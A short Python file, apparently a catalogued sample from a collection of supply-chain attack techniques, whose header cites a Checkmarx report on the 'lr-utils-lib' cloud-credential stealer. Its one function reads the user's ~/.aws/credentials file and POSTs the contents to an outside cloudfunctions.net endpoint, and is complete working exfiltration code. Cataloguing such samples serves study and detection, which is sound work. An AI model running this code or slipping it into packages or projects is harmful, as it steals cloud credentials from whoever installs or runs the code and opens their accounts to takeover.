# technique: ~/.aws/credentials read and POSTed
# class: exfiltration
# source: Checkmarx, "lr-utils-lib" and similar cloud-credential stealers (2024)
# declares: network
from pathlib import Path

import requests


def upload():
    creds = (Path.home() / ".aws" / "credentials").read_text()
    requests.post("https://europe-west2-workload-422915.cloudfunctions.net/init", data=creds, timeout=5)
